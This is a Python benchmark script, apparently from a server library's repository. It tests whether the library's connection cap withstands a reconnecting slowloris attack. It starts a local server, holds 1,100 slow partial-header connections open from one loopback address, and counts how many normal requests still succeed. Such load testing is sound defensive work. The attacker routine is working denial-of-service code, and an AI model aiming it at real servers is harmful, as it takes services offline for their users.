"""Issue 37 item 12: a reconnecting slowloris against `serve()`'s connection cap.

A server runs `serve()` with its default limits in a process whose descriptor soft limit is
1,024 (so the connection cap is 960). An attacker at 127.0.0.2 keeps `--attack` connections
open (1,100 by default, above the cap): each sends the start of a request and then one header
byte every 2 s, and every connection the server cuts (408, 503 or a plain close) is opened again
at once. Meanwhile a normal client at 127.0.0.3 sends `--requests` requests (37), one every
0.5 s, each given 2 s to be answered. Prints how many were answered 200.

    .venv/bin/python benchmarks/probe_reconnect.py [--attack 1100] [--requests 37]
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import socket
import subprocess
import sys
import textwrap
import time

SERVER = textwrap.dedent("""
    import resource, sys
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, hard))
    import rondo
    server = rondo.Server("probe", state=None)

    @server.tool
    def ping() -> str:
        '''pong'''
        return "pong"

    server.run_http(host="127.0.0.1", port=int(sys.argv[1]))
""")

BODY = (b'{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"_meta":{'
        b'"io.modelcontextprotocol/protocolVersion":"2026-07-28",'
        b'"io.modelcontextprotocol/clientCapabilities":{}}}}')
REQUEST = (b"POST /mcp HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
           b"accept: application/json\r\nmcp-method: tools/list\r\n"
           b"mcp-protocol-version: 2026-07-28\r\nconnection: close\r\n"
           b"content-length: %d\r\n\r\n%s" % (len(BODY), BODY))


async def attacker(port: int, stop: asyncio.Event, opened: list[int]) -> None:
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, local_addr=("127.0.0.2", 0))
        except OSError:
            await asyncio.sleep(0.05)
            continue
        opened[0] += 1
        try:
            writer.write(b"POST /mcp HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: ")
            while not stop.is_set():
                with contextlib.suppress(TimeoutError):
                    if await asyncio.wait_for(reader.read(4096), 2.0) == b"":
                        break  # the server cut it: open another at once
                    break  # it answered (408/503): it will close; open another
                writer.write(b"a")
                await writer.drain()
        except OSError:
            pass
        finally:
            writer.close()


async def normal(port: int) -> bool:
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(
            "127.0.0.1", port, local_addr=("127.0.0.3", 0)), 2.0)
    except (OSError, TimeoutError):
        return False
    try:
        writer.write(REQUEST)
        line = await asyncio.wait_for(reader.readline(), 2.0)
        return line.startswith(b"HTTP/1.1 200")
    except (OSError, TimeoutError):
        return False
    finally:
        writer.close()


async def probe(port: int, attack: int, requests: int) -> None:
    stop = asyncio.Event()
    opened = [0]
    tasks = [asyncio.create_task(attacker(port, stop, opened)) for _ in range(attack)]
    await asyncio.sleep(3.0)  # let the attacker take its places
    answered = 0
    started = time.monotonic()
    for _ in range(requests):
        answered += await normal(port)
        await asyncio.sleep(0.5)
    elapsed = time.monotonic() - started
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"attacker: {attack:,} connections kept open, {opened[0]:,} opened in all")
    print(f"normal client: {answered} of {requests} requests answered 200 ({elapsed:.1f} s)")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--attack", type=int, default=1100)
    parser.add_argument("--requests", type=int, default=37)
    args = parser.parse_args()
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 4 * args.attack)), hard))
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-c", SERVER, str(port)], env={**os.environ},
                              stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 20
        while True:
            with socket.socket() as sock:
                if sock.connect_ex(("127.0.0.1", port)) == 0:
                    break
            if time.monotonic() > deadline:
                raise SystemExit("the server did not start")
            time.sleep(0.05)
        asyncio.run(probe(port, args.attack, args.requests))
    finally:
        server.terminate()
        server.wait(10)


if __name__ == "__main__":
    main()
